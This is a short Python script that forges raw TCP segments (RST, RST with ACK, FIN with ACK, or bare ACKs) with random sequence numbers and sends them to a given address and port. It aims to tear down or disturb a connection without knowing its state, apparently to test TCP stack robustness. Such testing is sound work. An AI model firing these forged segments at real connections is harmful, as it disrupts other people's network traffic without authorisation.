#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Sends forged TCP segments of a connection whose sequence numbers are unknown: RST, RST with ACK, FIN with ACK; or bare ACKs.

usage: forge.py ADDRESS PORT ADDRESS PORT [ack]: from the first to the second, which must be of one family.
"""
import random
import socket
import struct
import sys

FIN, RST, ACK = 1, 4, 16
EACH = 5


def checksum(words):
    total = sum(struct.unpack(f"!{len(words) // 2}H", words))
    while total > 0xffff:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def segment(pseudo, port, to_port, flags):
    fields = [port, to_port, random.getrandbits(32), random.getrandbits(32), 5 << 4, flags, 1024, 0, 0]
    layout = "!HHIIBBHHH"
    fields[7] = checksum(pseudo + struct.pack(layout, *fields))
    return struct.pack(layout, *fields)


def main():
    address, port, to, to_port = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.bind((address, 0))
    pseudo = socket.inet_pton(family, address) + socket.inet_pton(family, to) + struct.pack("!HH", socket.IPPROTO_TCP, 20)
    kinds = [ACK] if sys.argv[5:] == ["ack"] else [RST, RST | ACK, FIN | ACK]
    for flags in kinds * EACH:
        raw.sendto(segment(pseudo, port, to_port, flags), (to, 0))


if __name__ == "__main__":
    main()
